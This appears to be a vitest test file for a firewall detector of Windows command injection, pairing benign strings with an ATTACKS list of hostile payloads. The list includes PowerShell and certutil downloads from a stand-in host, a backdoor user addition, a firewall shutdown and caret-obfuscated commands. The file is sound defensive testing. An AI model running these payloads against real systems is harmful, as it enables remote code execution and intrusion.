import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { detectWindowsShell } from "../../../../../runtime/primitives/waf/detect/windows-shell.ts";
import { scaled } from "../../../../helpers/scale.ts";

const ATTACKS = [
  "& powershell irm http://a.example/b.ps1",
  "|%ProgramData:~0,1%md",
  "& dir c:\\",
  "| type %SYSTEMROOT%\\win.ini",
  "cmd.exe /c whoami",
  "powershell -enc AAAA",
  "net user hacker x /add",
  "; certutil -urlcache -f http://a.example/x",
  "Invoke-WebRequest http://a.example/x.ps1",
  "for /f %i in ('x') do echo %i",
  "if exist c:\\x cmd",
  "w^h^oami & i^pconfig",
  "+|+dir+c:\\",
  "$&&dir+c:/",
  "+dir+c:/",
  "\ndir c:\\",
  "& copy con x",
  "netsh advfirewall set allprofiles state off",
  "& route print",
  "&dir",
];
const HONEST = [
  "dir of photography",
  "type c cable",
  "set the table",
  "C:\\Users\\me\\letter.docx",
  "if a is b",
  "50% off & more",
  "start-up culture",
  "net curtains & rods",
  "netsh explained",
  "+49 30 555",
  "a\nb",
  "type con in windows",
  "C++ | Java + Perl",
];

describe("detectWindowsShell", () => {
  it.each(ATTACKS)("sees a Windows command in %j", (value) => {
    const finding = detectWindowsShell(value);
    expect(finding?.sign).toMatch(/^[a-z0-9-]+$/);
    expect(finding!.start).toBeGreaterThanOrEqual(0);
    expect(finding!.end).toBeGreaterThan(finding!.start);
    expect(finding!.end).toBeLessThanOrEqual(value.length);
  });

  it.each(HONEST)("passes %j", (value) => {
    expect(detectWindowsShell(value)).toBeUndefined();
  });

  it("answers for every string, twice the same", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(...ATTACKS, ...HONEST),
      fc.constantFrom("'", '"', "<", "$(", "..", "/*", "{{", "\0", "%", "\n"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const value = pieces.join("");
        const finding = detectWindowsShell(value);
        expect(detectWindowsShell(value)).toEqual(finding);
        if (finding !== undefined) expect(finding.end).toBeLessThanOrEqual(value.length);
      }),
      { numRuns: scaled(100, 5000) },
    );
  });
});
